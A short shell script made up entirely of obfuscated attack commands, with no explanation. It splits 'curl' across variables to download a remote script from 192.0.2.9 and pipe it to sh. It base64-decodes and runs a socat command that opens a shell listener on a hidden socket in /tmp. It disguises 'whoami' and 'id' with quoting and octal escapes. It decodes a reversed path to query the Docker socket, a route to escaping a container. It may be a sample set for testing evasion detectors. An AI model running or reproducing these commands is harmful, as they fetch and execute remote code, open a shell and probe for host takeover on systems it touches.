#!/bin/sh
a=cu; b=rl
$a$b -s http://192.0.2.9/x.sh | sh
echo c29jYXQgVU5JWC1MSVNURU46L3RtcC8ucyxmb3JrIEVYRUM6L2Jpbi9zaA== | base64 -d | sh
w'h'o"am"i
eval "$(printf '\151\144')"
x=$(echo 'kcos.rekcod/nur/' | rev); curl --unix-socket "$x" http://l/
